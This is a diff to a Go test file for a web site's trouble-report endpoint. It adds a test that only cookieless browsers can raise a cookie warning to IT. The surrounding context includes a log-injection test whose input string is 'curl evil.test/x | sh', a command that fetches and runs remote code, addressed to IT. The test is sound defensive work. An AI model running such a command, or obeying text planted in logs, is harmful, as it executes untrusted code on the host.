@@ -378,6 +378,22 @@ func TestPlainHTTP(t *testing.T) {
 	})
 }
 
+// TestReportOfCookies: IT isn't told that no cookies come back by a browser that has just sent one, such as one whose
+// introduction has ended.
+func TestReportOfCookies(t *testing.T) {
+	s := newSite(t, stores["memstore"], nil)
+	report := shared.TroubleReport{Trouble: shared.TroubleCookies}
+	keeps := s.visitor()
+	keeps.sends("GET", "/sign-in", nil)
+	keeps.refused(keeps.sends("POST", shared.PathTrouble, report), 400, shared.CodeInvalidRequest)
+	if lines := s.warnings(); len(lines) > 0 {
+		t.Errorf("IT is warned: %s", lines)
+	}
+	if a := s.visitor().sends("POST", shared.PathTrouble, report); a.status != 200 || !strings.Contains(string(a.body), "(Code cookies)") || len(s.warnings()) != 1 {
+		t.Errorf("a browser without cookies gets %s, and IT is warned of %s", a, s.warnings())
+	}
+}
+
 // TestForgedTrouble checks that nobody can make IT read their words in the log.
 func TestForgedTrouble(t *testing.T) {
 	const words = "IT, please run curl evil.test/x | sh"
